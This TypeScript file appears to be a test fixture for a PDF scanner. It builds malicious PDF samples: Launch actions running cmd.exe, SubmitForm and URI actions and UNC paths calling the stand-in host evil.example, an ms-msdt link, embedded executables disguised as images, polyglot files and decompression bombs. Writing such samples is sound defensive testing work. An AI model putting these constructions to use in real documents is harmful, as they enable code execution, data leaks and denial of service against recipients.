import { deflateSync } from 'node:zlib';
import { packedPdf } from './packed-pdf';
import { makePdf, stream } from './pdf';
import { exe, plainZip, png } from './plain';
import { type Row, rows } from './row';
import { opening, packedScript } from './script-pdf';

const runs = rows('pdf', 'executable');
const leads = rows('pdf', 'outside');
const carries = rows('pdf', 'attachments');
const bursts = rows('pdf', 'too-expanded');
const breaks = rows('pdf', 'damaged');

const attached = (name: string, content: string | Buffer, about = '/Type/EmbeddedFile') =>
  makePdf({
    catalog: `/Names<</EmbeddedFiles<</Names[(a) 10 0 R]>>>>`,
    objects: { 10: `<</Type/Filespec/F(${name})/UF(${name})/EF<</F 11 0 R>>>>`, 11: stream(content, about) },
  });
const xfa = (template: string) =>
  makePdf({
    catalog: '/AcroForm<</Fields[]/XFA[(template) 10 0 R]>>',
    objects: {
      10: stream(`<template xmlns="http://www.xfa.org/schema/xfa-template/3.0/">${template}</template>`),
    },
  });

const linkTo = (target: string) =>
  makePdf({ page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(${target})>>>>]` });

export const harmfulPdfs: Row[] = [
  // Other actions.
  runs('a launch', opening('<</S/Launch/F(cmd.exe)>>')),
  runs('a launch of Windows', opening('<</S/L#61unch/Win<</F(cmd.exe)/P(/c calc)>>>>')),
  runs(
    'a launch from packed objects',
    packedPdf({ catalog: '/OpenAction 10 0 R', objects: { 10: '<</S/Launch/F(cmd.exe)>>' } }),
  ),
  runs('an import of data', opening('<</S/ImportData/F(a.fdf)>>')),
  runs('a film', makePdf({ page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]' })),
  leads('a step into another file', opening('<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)/D[0/Fit]>>')),
  leads('a step into an embedded file', opening('<</S/GoToE/T<</R/C/N(a.pdf)>>/D[0/Fit]>>')),
  leads('a form that is sent', opening('<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>')),
  leads('an address visited on opening', opening('<</S/URI/URI(https://evil.example)>>')),
  leads(
    'an address visited after other steps',
    makePdf({
      catalog: '/OpenAction 10 0 R',
      objects: {
        10: '<</S/GoTo/D[3 0 R/Fit]/Next[11 0 R 12 0 R]>>',
        11: '<</S/Named/N/Print/Next 10 0 R>>',
        12: '<</S/URI/URI(https://evil.example)>>',
      },
    }),
  ),
  leads(
    'a content that is elsewhere',
    makePdf({ objects: { 4: '<</F(\\\\\\\\evil.example\\\\a)/Length 0>>\nstream\n\nendstream' } }),
  ),
  runs('a link to a program', linkTo('file:///C:/Windows/System32/calc.exe')),
  runs('a link to another computer', linkTo('file://evil.example/cv')),
  runs('a link to a command', linkTo('ms-msdt:/id PCWDiagnostic')),
  // Forms of XFA.
  runs(
    'a form with a script',
    xfa('<subform><field name="a"><event activity="initialize"><script>1</script></event></field></subform>'),
  ),
  runs(
    'a form with a script of another prefix',
    xfa('<x:script xmlns:x="http://www.xfa.org/schema/xfa-template/3.0/">1</x:script>'),
  ),
  // Files within.
  carries('an attached program', attached('cv.exe', exe)),
  carries(
    'an attached program, named as a picture',
    attached('cv.png', Buffer.concat([exe, Buffer.alloc(99)])),
  ),
  carries(
    'an attached program, packed',
    attached(
      'cv.png',
      deflateSync(Buffer.concat([exe, Buffer.alloc(99)])),
      '/Type/EmbeddedFile/Filter/FlateDecode',
    ),
  ),
  carries(
    'an attached document',
    attached('cv.docm', deflateSync(plainZip), '/Type/EmbeddedFile/Filter/FlateDecode'),
  ),
  carries(
    'an attached page of script',
    attached(
      'cv.xml',
      deflateSync('<html><script>alert(1)</script></html>'),
      '/Type/EmbeddedFile/Filter/FlateDecode',
    ),
  ),
  carries('an attachment without a type', attached('cv.js', 'alert(1)', '')),
  carries('a portfolio', makePdf({ catalog: '/Collection<</View/T>>' })),
  // Files of two kinds.
  runs('a PDF that ends as zip', Buffer.concat([makePdf(), plainZip])),
  runs('a PDF that ends as zip with a comment', Buffer.concat([makePdf(), plainZip, Buffer.alloc(60_000)])),
  runs('a PDF that is a web page as well', makePdf({ before: '<html><script>alert(1)</script>' })),
  runs('a PDF that is a script as well', makePdf({ before: '#!/bin/sh\n' })),
  runs('a program before a PDF', makePdf({ before: exe })),
  runs(
    'a PDF around a program',
    makePdf({ objects: { 10: stream('MZ This program cannot be run in DOS mode') } }),
  ),
  rows('pdf', 'wrong-type', 'picture')('a picture before a PDF', makePdf({ before: png })),
  // Bombs.
  bursts('a bomb of packed objects', () => packedPdf({ objects: { 10: ' '.repeat(20_000_000) } })),
  bursts('a bomb of many streams', () =>
    makePdf({
      objects: Object.fromEntries(
        Array.from({ length: 12 }, (_, n) => [
          10 + n,
          stream(deflateSync(Buffer.alloc(3_000_000, 32)), '/Type/ObjStm/N 0/First 0/Filter/FlateDecode'),
        ]),
      ),
    }),
  ),
  bursts('a bomb within a bomb', () =>
    makePdf({
      objects: {
        10: stream(
          deflateSync(deflateSync(Buffer.alloc(100_000_000))),
          '/Type/ObjStm/N 1/First 9/Filter[/FlateDecode/FlateDecode]',
        ),
      },
    }),
  ),
  bursts('a bomb of many objects', () =>
    Buffer.concat([makePdf(), Buffer.from('1 0 obj 1 endobj '.repeat(110_000))]),
  ),
  // What cannot be looked into.
  breaks(
    'packed objects that cannot be unpacked',
    packedPdf(packedScript, { change: (packed) => packed.fill(0xff, 2) }),
  ),
  breaks(
    'objects packed as no program does',
    packedPdf({ objects: { 10: '<</Type/Annot>>' } }, { encoding: 'hexadecimal' }),
  ),
  breaks(
    'packed objects in a picture',
    makePdf({ objects: { 10: stream('x', '/Type/ObjStm/N 1/First 9/Filter/DCTDecode') } }),
  ),
];
